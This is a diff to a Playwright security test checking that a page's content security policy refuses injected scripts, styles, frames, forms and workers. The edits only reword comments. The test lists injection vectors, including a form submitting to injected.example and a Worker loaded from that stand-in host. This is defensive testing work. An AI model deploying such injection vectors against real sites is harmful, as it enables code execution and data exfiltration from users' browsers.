@@ -3,7 +3,7 @@ import { expect, test } from '@playwright/test';
 /** The server ends the run with an error for a violation of any other address: see `failOnViolations.ts`. */
 const address = '/nowhere?injected';
 
-/** Ways in which text that got into the page would run code, or send what it knows. */
+/** Ways in which injected text could run code in the page, or send its data elsewhere. */
 const attacks: Readonly<Record<string, () => unknown>> = {
   'an inline script': () => {
     const script = document.createElement('script');
@@ -34,7 +34,7 @@ const attacks: Readonly<Record<string, () => unknown>> = {
     const form = document.createElement('form');
     form.action = 'https://injected.example/';
     document.body.append(form);
-    // After the call, which would otherwise wait for the navigation.
+    // Submits after the call, which would otherwise wait for the navigation.
     setTimeout(() => form.submit());
   },
   'a foreign worker': () => new Worker('https://injected.example/worker.js'),
@@ -58,7 +58,7 @@ test('SECURITY-2 the page refuses injected scripts, styles, frames, forms, worke
   });
   for (const [what, attack] of Object.entries(attacks)) {
     await page.evaluate(() => delete document.documentElement.dataset['refused']);
-    // A refusal is thrown where the call itself is what is refused.
+    // If the policy refuses the call itself, the call throws.
     await page.evaluate(attack).catch(() => undefined);
     await expect.poll(refused, { message: what }).not.toBe('');
   }
